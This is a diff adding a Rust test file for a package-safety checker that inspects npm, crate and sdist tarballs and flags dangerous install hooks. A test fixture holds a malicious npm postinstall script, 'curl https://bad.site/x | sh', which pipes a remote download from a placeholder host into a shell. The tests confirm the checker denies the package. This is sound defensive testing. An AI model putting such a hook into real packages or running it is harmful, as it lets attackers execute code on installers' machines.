@@ -0,0 +1,191 @@
+use super::*;
+use crate::config::SafePkgsConfig;
+use crate::service::SafePkgsService;
+use crate::types::Severity;
+use flate2::Compression;
+use flate2::write::GzEncoder;
+use std::path::PathBuf;
+use std::time::{SystemTime, UNIX_EPOCH};
+
+fn build_tarball(files: &[(&str, &str)], gzip: bool) -> Vec<u8> {
+    let mut builder = tar::Builder::new(Vec::new());
+    for (path, contents) in files {
+        let mut header = tar::Header::new_gnu();
+        header.set_size(contents.len() as u64);
+        header.set_mode(0o644);
+        header.set_cksum();
+        builder
+            .append_data(&mut header, path, contents.as_bytes())
+            .expect("append tar entry");
+    }
+    let tar = builder.into_inner().expect("finish tar");
+    if !gzip {
+        return tar;
+    }
+    let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
+    std::io::Write::write_all(&mut encoder, &tar).expect("gzip tar");
+    encoder.finish().expect("finish gzip")
+}
+
+fn write_temp_tarball(name: &str, bytes: &[u8]) -> PathBuf {
+    let nanos = SystemTime::now()
+        .duration_since(UNIX_EPOCH)
+        .expect("system time")
+        .as_nanos();
+    let path = std::env::temp_dir().join(format!("safe-pkgs-{nanos}-{name}"));
+    std::fs::write(&path, bytes).expect("write tarball");
+    path
+}
+
+const MALICIOUS_PACKAGE_JSON: &str = r#"{
+  "name": "evil-helper",
+  "version": "1.0.0",
+  "license": "MIT",
+  "scripts": {
+    "test": "jest",
+    "postinstall": "curl https://bad.site/x | sh"
+  }
+}"#;
+
+#[test]
+fn inspects_npm_tarball_manifest() {
+    let bytes = build_tarball(
+        &[
+            ("package/package.json", MALICIOUS_PACKAGE_JSON),
+            ("package/index.js", "module.exports = {};"),
+        ],
+        true,
+    );
+
+    let manifest = TarballInspector::new(1024 * 1024)
+        .inspect(&bytes, None)
+        .expect("inspect tarball");
+    assert_eq!(manifest.registry, "npm");
+    assert_eq!(manifest.name, "evil-helper");
+    assert_eq!(manifest.version, "1.0.0");
+    assert_eq!(manifest.license.as_deref(), Some("MIT"));
+    assert_eq!(
+        manifest.install_scripts,
+        vec!["postinstall: curl https://bad.site/x | sh"]
+    );
+    assert_eq!(manifest.file_count, 2);
+}
+
+#[test]
+fn inspects_crate_and_sdist_manifests() {
+    let inspector = TarballInspector::new(1024 * 1024);
+
+    let crate_bytes = build_tarball(
+        &[(
+            "demo-0.1.0/Cargo.toml",
+            "[package]\nname = \"demo\"\nversion = \"0.1.0\"\nlicense = \"Apache-2.0\"\n",
+        )],
+        true,
+    );
+    let manifest = inspector
+        .inspect(&crate_bytes, None)
+        .expect("inspect crate");
+    assert_eq!(manifest.registry, "cargo");
+    assert_eq!(manifest.name, "demo");
+    assert_eq!(manifest.license.as_deref(), Some("Apache-2.0"));
+
+    // Plain (uncompressed) tar is accepted too, and nested manifests are ignored.
+    let sdist_bytes = build_tarball(
+        &[
+            ("demo-2.0/docs/package.json", "{}"),
+            (
+                "demo-2.0/PKG-INFO",
+                "Metadata-Version: 2.1\nName: demo\nVersion: 2.0\nLicense: BSD\n\nName: body text\n",
+            ),
+        ],
+        false,
+    );
+    let manifest = inspector
+        .inspect(&sdist_bytes, None)
+        .expect("inspect sdist");
+    assert_eq!(manifest.registry, "pypi");
+    assert_eq!(manifest.version, "2.0");
+    assert_eq!(manifest.license.as_deref(), Some("BSD"));
+}
+
+#[test]
+fn archive_with_several_manifests_needs_an_explicit_format() {
+    let inspector = TarballInspector::new(1024 * 1024);
+    let bytes = build_tarball(
+        &[
+            (
+                "evil-1.0/PKG-INFO",
+                "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
+            ),
+            ("evil-1.0/package.json", MALICIOUS_PACKAGE_JSON),
+        ],
+        true,
+    );
+
+    let err = inspector
+        .inspect(&bytes, None)
+        .expect_err("ambiguous archive");
+    assert!(err.to_string().contains("several formats"));
+
+    // An explicit format is honored, but package.json install hooks are still reported.
+    let manifest = inspector
+        .inspect(&bytes, Some("pypi"))
+        .expect("inspect as sdist");
+    assert_eq!(manifest.registry, "pypi");
+    assert_eq!(manifest.name, "evil");
+    assert_eq!(
+        manifest.install_scripts,
+        vec!["postinstall: curl https://bad.site/x | sh"]
+    );
+
+    let err = inspector
+        .inspect(&bytes, Some("cargo"))
+        .expect_err("missing Cargo.toml");
+    assert!(err.to_string().contains("no Cargo.toml"));
+}
+
+#[test]
+fn archive_extension_selects_the_format() {
+    assert_eq!(registry_from_extension("./evil-1.0.0.tgz"), Some("npm"));
+    assert_eq!(
+        registry_from_extension("https://static.crates.io/crates/demo/demo-0.1.0.crate?x=1"),
+        Some("cargo")
+    );
+    assert_eq!(registry_from_extension("demo-2.0.tar.gz"), None);
+}
+
+#[test]
+fn rejects_tarball_without_manifest() {
+    let bytes = build_tarball(&[("package/index.js", "")], true);
+    let err = TarballInspector::new(1024 * 1024)
+        .inspect(&bytes, None)
+        .expect_err("missing manifest");
+    assert!(err.to_string().contains("no package.json"));
+}
+
+#[tokio::test]
+async fn check_tarball_denies_malicious_postinstall_hook() {
+    let path = write_temp_tarball(
+        "evil-helper-1.0.0.tgz",
+        &build_tarball(&[("package/package.json", MALICIOUS_PACKAGE_JSON)], true),
+    );
+
+    let service = SafePkgsService::with_config(SafePkgsConfig::default());
+    let result = service
+        .check_tarball(path.to_str().expect("utf-8 path"), None, "test")
+        .await
+        .expect("check tarball");
+    assert_eq!(result.registry, "npm");
+    assert_eq!(result.package, "evil-helper");
+    assert!(!result.response.allow);
+    assert_eq!(result.response.risk, Severity::High);
+    assert!(
+        result
+            .response
+            .evidence
+            .iter()
+            .any(|item| item.id.starts_with("install_script."))
+    );
+
+    let _ = std::fs::remove_file(path);
+}